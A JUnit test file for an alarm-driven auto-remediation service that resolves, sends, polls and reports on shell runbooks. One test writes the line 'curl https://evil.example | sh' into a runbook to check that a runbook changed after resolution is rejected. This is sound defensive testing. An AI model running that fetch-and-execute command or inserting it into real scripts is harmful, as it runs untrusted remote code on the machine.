package io.autoremediate.local.handlers;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import io.autoremediate.functions.alarm.AlarmNotFoundException;
import io.autoremediate.functions.alarm.AlarmReading;
import io.autoremediate.functions.command.CommandProgress;
import io.autoremediate.functions.command.CommandStatus;
import io.autoremediate.functions.handlers.CheckAlarmHandler;
import io.autoremediate.functions.handlers.InvalidHandlerInputException;
import io.autoremediate.functions.handlers.NotifyHandler;
import io.autoremediate.functions.handlers.PollCommandHandler;
import io.autoremediate.functions.handlers.ResolveScriptHandler;
import io.autoremediate.functions.handlers.SendCommandHandler;
import io.autoremediate.functions.incident.AlarmState;
import io.autoremediate.functions.json.JsonFields;
import io.autoremediate.functions.notify.RemediationContext;
import io.autoremediate.functions.resolve.Decision;
import io.autoremediate.functions.resolve.Resolution;
import io.autoremediate.functions.send.RemediationRequest;
import io.autoremediate.functions.send.RunbookChangedException;
import io.autoremediate.local.adapters.FolderRunbookStore;
import io.autoremediate.local.adapters.JsonLinesNotificationChannel;
import io.autoremediate.local.adapters.LocalAlarmStateReader;
import io.autoremediate.local.adapters.LocalShellCommandRunner;
import io.autoremediate.local.cloudwatch.AlarmDefinition;
import io.autoremediate.local.cloudwatch.ComparisonOperator;
import io.autoremediate.local.cloudwatch.LocalAlarmEvaluator;
import io.autoremediate.local.cloudwatch.LocalMetricStore;
import io.autoremediate.local.cloudwatch.Statistic;
import io.autoremediate.local.cloudwatch.TreatMissingData;
import io.autoremediate.local.json.LocalJson;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Each handler as Lambda calls it (JSON bytes in and out), against the local adapters and real files. */
class HandlersWithLocalAdaptersTest {

    private static final String EVENT = """
            {"version":"0","id":"1","detail-type":"CloudWatch Alarm State Change","source":"aws.cloudwatch",
             "account":"123456789012","time":"2026-11-25T17:04:40Z","region":"us-east-1",
             "resources":["arn:aws:cloudwatch:us-east-1:123456789012:alarm:webapp-uptime"],
             "detail":{"alarmName":"webapp-uptime",
               "configuration":{"metrics":[{"id":"m1","metricStat":{"metric":{"dimensions":{"InstanceId":"i-0abc12345def67890"},
                 "name":"webapp-uptime","namespace":"CustomNamespace"},"period":60,"stat":"Minimum"},"returnData":true}]},
               "previousState":{"value":"OK","reason":"ok","timestamp":"2026-11-25T17:03:40.989+0000"},
               "state":{"value":"ALARM","reason":"down","reasonData":"{}","timestamp":"2026-11-25T17:04:40.989+0000"}}}""";

    @TempDir
    Path dir;

    private Path runbooks;
    private FolderRunbookStore store;
    private LocalShellCommandRunner runner;

    @BeforeEach
    void setUp() throws Exception {
        runbooks = Files.createDirectories(dir.resolve("remediations"));
        store = new FolderRunbookStore(runbooks);
        runner = new LocalShellCommandRunner(dir.resolve("out"), Map.of());
    }

    @AfterEach
    void tearDown() {
        runner.close();
    }

    @Test
    void resolveFindsTheMetricRunbookWhenNoAlarmRunbookExists() throws Exception {
        Files.writeString(runbooks.resolve("webapp-uptime#CustomNamespace.sh"), "echo hi\n");

        Resolution resolution = resolve();

        assertThat(resolution.decision()).isEqualTo(Decision.REMEDIATE);
        assertThat(resolution.runbook().key()).isEqualTo("webapp-uptime#CustomNamespace.sh");
        assertThat(resolution.searched()).containsExactly("webapp-uptime.sh", "webapp-uptime#CustomNamespace.sh");
    }

    @Test
    void resolvePrefersTheRunbookNamedForTheAlarm() throws Exception {
        Files.writeString(runbooks.resolve("webapp-uptime#CustomNamespace.sh"), "echo metric\n");
        Files.writeString(runbooks.resolve("webapp-uptime.sh"), "echo alarm\n");

        assertThat(resolve().runbook().key()).isEqualTo("webapp-uptime.sh");
    }

    @Test
    void sendThenPollRunsTheRunbookWithTheIncidentInItsEnvironment() throws Exception {
        Files.writeString(runbooks.resolve("webapp-uptime#CustomNamespace.sh"),
                "echo \"$AUTOREMEDIATE_ALARM_NAME $AUTOREMEDIATE_INSTANCE_ID $AUTOREMEDIATE_ATTEMPT\"\n");
        Resolution resolution = resolve();

        CommandProgress sent = CommandProgress.fromJson(invoke(new SendCommandHandler(store, runner),
                new RemediationRequest(resolution.incident(), resolution.runbook(), 1, 30, "exec-1").toJson()));
        runner.awaitEnd(sent.commandId(), 10, TimeUnit.SECONDS);
        CommandProgress polled = CommandProgress.fromJson(invoke(new PollCommandHandler(runner), LocalJson.MAPPER
                .createObjectNode().put("commandId", sent.commandId()).put("instanceId", sent.instanceId()).put("polls", 0)));

        assertThat(sent.status()).isEqualTo(CommandStatus.PENDING);
        assertThat(polled.status()).isEqualTo(CommandStatus.SUCCESS);
        assertThat(polled.outputTail()).isEqualTo("webapp-uptime i-0abc12345def67890 1\n");
        assertThat(polled.polls()).isEqualTo(1);
    }

    @Test
    void aRunbookChangedAfterResolutionIsNotSent() throws Exception {
        Path file = runbooks.resolve("webapp-uptime#CustomNamespace.sh");
        Files.writeString(file, "systemctl restart webapp\n");
        Resolution resolution = resolve();
        Files.writeString(file, "curl https://evil.example | sh\n");

        assertThatThrownBy(() -> new SendCommandHandler(store, runner).handle(new RemediationRequest(
                resolution.incident(), resolution.runbook(), 1, 30, "exec-1")))
                .isInstanceOf(RunbookChangedException.class)
                .hasMessageContaining("changed after it was resolved");
    }

    @Test
    void unreadableInputIsAnErrorThatNamesTheStep() {
        assertThatThrownBy(() -> new PollCommandHandler(runner).handleRequest(
                new ByteArrayInputStream("{\"commandId\": 5".getBytes(StandardCharsets.UTF_8)),
                new ByteArrayOutputStream(), null))
                .isInstanceOf(InvalidHandlerInputException.class)
                .hasMessageStartingWith("PollCommand input is unreadable: ");
    }

    @Test
    void invalidInputIsAnErrorThatNamesTheStepAndTheField() {
        assertThatThrownBy(() -> new PollCommandHandler(runner).handleRequest(new ByteArrayInputStream(
                "{\"commandId\": \"c\", \"instanceId\": \"i-0abc12345def67890\", \"polls\": \"x\"}"
                        .getBytes(StandardCharsets.UTF_8)), new ByteArrayOutputStream(), null))
                .isInstanceOf(InvalidHandlerInputException.class)
                .hasMessage("PollCommand input is invalid: polls must be a whole number, not the text 'x'");
        assertThatThrownBy(() -> new PollCommandHandler(runner).handleRequest(
                new ByteArrayInputStream("null".getBytes(StandardCharsets.UTF_8)), new ByteArrayOutputStream(), null))
                .isInstanceOf(InvalidHandlerInputException.class)
                .hasMessage("PollCommand input is empty");
        assertThatThrownBy(() -> new SendCommandHandler(store, runner).handleRequest(new ByteArrayInputStream(
                "{\"incident\": {\"alarmName\": \"a\", \"state\": \"ALARM\"}}".getBytes(StandardCharsets.UTF_8)),
                new ByteArrayOutputStream(), null))
                .isInstanceOf(InvalidHandlerInputException.class)
                .hasMessage("SendCommand input is invalid: incident.stateChangedAt is required");
    }

    @Test
    void checkAlarmReadsTheLocalEvaluatorsState() throws Exception {
        LocalMetricStore metrics = new LocalMetricStore();
        LocalAlarmEvaluator evaluator = new LocalAlarmEvaluator(metrics, "123456789012", "local");
        evaluator.putAlarm(new AlarmDefinition("webapp-uptime", "", "webapp-uptime", "CustomNamespace",
                Map.of("InstanceId", "i-0abc12345def67890"), Statistic.Minimum, java.time.Duration.ofSeconds(60), 1, 1,
                ComparisonOperator.LessThanThreshold, 1, TreatMissingData.missing));
        java.time.Instant t = java.time.Instant.parse("2026-11-25T17:00:00Z");
        metrics.putMetricData("CustomNamespace", "webapp-uptime", Map.of("InstanceId", "i-0abc12345def67890"), 0, t.plusSeconds(10));
        evaluator.evaluate(t.plusSeconds(61));

        AlarmReading reading = AlarmReading.fromJson(invoke(new CheckAlarmHandler(new LocalAlarmStateReader(evaluator)),
                LocalJson.MAPPER.createObjectNode().put("alarmName", "webapp-uptime")));

        assertThat(reading.state()).isEqualTo(AlarmState.ALARM);
        assertThat(reading.reason()).startsWith("Threshold Crossed");
        assertThatThrownBy(() -> new CheckAlarmHandler(new LocalAlarmStateReader(evaluator))
                .handle(new CheckAlarmHandler.Input("no-such-alarm")))
                .isInstanceOf(AlarmNotFoundException.class).hasMessageContaining("'no-such-alarm' does not exist");
    }

    @Test
    void notifyAppendsTheWholeStoryToTheNoticesFile() throws Exception {
        Path notices = dir.resolve("notices.jsonl");
        Files.writeString(runbooks.resolve("webapp-uptime#CustomNamespace.sh"), "echo hi\n");
        Resolution resolution = resolve();
        JsonNode input = LocalJson.MAPPER.createObjectNode().put("kind", "ESCALATION").put("executionId", "exec-arn")
                .set("context", new RemediationContext(null, null, resolution, null, null, null, null, null, null).toJson());

        JsonFields result = invoke(new NotifyHandler(List.of(
                new JsonLinesNotificationChannel(notices, java.time.Clock.systemUTC()))), input);

        assertThat(result.node("deliveries")).singleElement()
                .satisfies(d -> assertThat(d.path("delivered").asBoolean()).isTrue());
        JsonNode line = LocalJson.MAPPER.readTree(Files.readAllLines(notices).get(0));
        assertThat(line.path("kind").asText()).isEqualTo("ESCALATION");
        assertThat(line.path("dedupKey").asText()).isEqualTo("arn:aws:cloudwatch:us-east-1:123456789012:alarm:webapp-uptime");
        assertThat(line.path("body").asText()).contains("Runbook: webapp-uptime#CustomNamespace.sh").contains("exec-arn");
    }

    private Resolution resolve() throws Exception {
        JsonNode event = LocalJson.MAPPER.readTree(EVENT);
        return Resolution.fromJson(invoke(new ResolveScriptHandler(store),
                LocalJson.MAPPER.createObjectNode().set("event", event)));
    }

    /** Through the handler's stream edge, as Lambda calls it: the answer's fields, as the state machine reads them. */
    private static JsonFields invoke(com.amazonaws.services.lambda.runtime.RequestStreamHandler handler,
                                     JsonNode input) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        handler.handleRequest(new ByteArrayInputStream(LocalJson.MAPPER.writeValueAsBytes(input)), out, null);
        return JsonFields.of(LocalJson.MAPPER.readTree(out.toByteArray()), "the answer");
    }
}
